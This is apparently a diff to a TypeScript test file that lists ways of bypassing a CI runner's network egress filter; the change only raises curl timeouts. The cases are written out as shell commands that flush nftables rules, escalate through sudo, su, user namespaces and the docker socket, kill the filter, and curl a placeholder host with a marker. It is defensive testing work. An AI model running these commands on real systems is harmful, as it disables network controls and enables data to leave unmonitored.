@@ -2,7 +2,7 @@ import { CONTAINER, JOB } from '../addresses.ts'
 import { type BypassCase, createBypasses } from './case.ts'
 
 // What somebody does who became root: takes the rules away, then sends.
-const AS_ROOT = 'nft flush ruleset; curl -sk -m 3 https://$V4/$MARKER; curl -sk -m 3 https://$NAME/$MARKER'
+const AS_ROOT = 'nft flush ruleset; curl -sk -m 6 https://$V4/$MARKER; curl -sk -m 6 https://$NAME/$MARKER'
 const container = `curl -s -m 4 --get http://${CONTAINER.v4}:${CONTAINER.port}/ --data-urlencode`
 const before = { marker: 'anywhere', ownAddresses: false } as const
 
@@ -11,13 +11,13 @@ export const MACHINE: readonly BypassCase[] = [
   ...createBypasses('sub-uid in a user namespace', [
     [
       'sub-uid, TCP',
-      'unshare --user --map-auto --map-root-user setpriv --reuid=7 --regid=7 --clear-groups curl -sk -m 3 https://$V4/$MARKER',
+      'unshare --user --map-auto --map-root-user setpriv --reuid=7 --regid=7 --clear-groups curl -sk -m 6 https://$V4/$MARKER',
     ],
     [
       'sub-uid, UDP',
       'unshare --user --map-auto --map-root-user setpriv --reuid=7 --regid=7 --clear-groups python3 $STAGE/programs/attack.py udp $V4 9999 $MARKER',
     ],
-    ['root of a user namespace', 'unshare --user --map-root-user curl -sk -m 3 https://$V4/$MARKER'],
+    ['root of a user namespace', 'unshare --user --map-root-user curl -sk -m 6 https://$V4/$MARKER'],
   ]),
   ...createBypasses('root daemon fetches for us', [
     ['over a unix socket', 'attack unix /run/fetchd.sock https://$V4/$MARKER'],
@@ -25,7 +25,7 @@ export const MACHINE: readonly BypassCase[] = [
     ['over an abstract socket', 'attack unix @fetchd https://$V4/$MARKER'],
   ]),
   ...createBypasses('cron, other session of the same uid', [
-    ['cron job, TCP', 'attack unix /run/crond.sock "curl -sk -m 3 https://$V4/$MARKER"'],
+    ['cron job, TCP', 'attack unix /run/crond.sock "curl -sk -m 6 https://$V4/$MARKER"'],
     ['cron job, lookup', 'attack unix /run/crond.sock "getent hosts $NAME"'],
   ]),
   ...createBypasses('service container as a step', [
@@ -76,7 +76,7 @@ export const MACHINE: readonly BypassCase[] = [
     ['sudo', `sudo -n bash -c "${AS_ROOT}"`, { alone: true }],
     [
       'sudo to the uid of the relay',
-      'sudo -n setpriv --reuid=1900000001 --clear-groups curl -sk -m 3 https://$V4/$MARKER',
+      'sudo -n setpriv --reuid=1900000001 --clear-groups curl -sk -m 6 https://$V4/$MARKER',
       { alone: true },
     ],
     ['docker socket', `attack unix /run/docker.sock "${AS_ROOT}"`, { alone: true }],
@@ -84,7 +84,7 @@ export const MACHINE: readonly BypassCase[] = [
     ['su to root', `echo | su root -c "${AS_ROOT}"`, { alone: true, leaksWithout: false }],
     [
       'nft as the runner',
-      'nft flush ruleset; unshare -Ur nft flush ruleset; curl -sk -m 3 https://$V4/$MARKER',
+      'nft flush ruleset; unshare -Ur nft flush ruleset; curl -sk -m 6 https://$V4/$MARKER',
       { alone: true },
     ],
   ]),
@@ -108,7 +108,7 @@ export const MACHINE: readonly BypassCase[] = [
   ...createBypasses('file left for a later step', [
     [
       'script in the workspace',
-      "printf 'curl -sk -m 3 https://%s/%s\\n' $V4 $MARKER >/home/runner/work/$MARKER.sh",
+      "printf 'curl -sk -m 6 https://%s/%s\\n' $V4 $MARKER >/home/runner/work/$MARKER.sh",
       { later: 'bash /home/runner/work/$MARKER.sh', knownLeaks: ['wrapped'] },
     ],
   ]),
@@ -121,7 +121,7 @@ export const MACHINE: readonly BypassCase[] = [
   ...createBypasses('killing the filter', [
     [
       'SIGKILL to every part',
-      'attack killfilter; curl -sk -m 3 https://$V4/$MARKER; attack udp $V4 9999 $MARKER',
+      'attack killfilter; curl -sk -m 6 https://$V4/$MARKER; attack udp $V4 9999 $MARKER',
       { alone: true },
     ],
     [
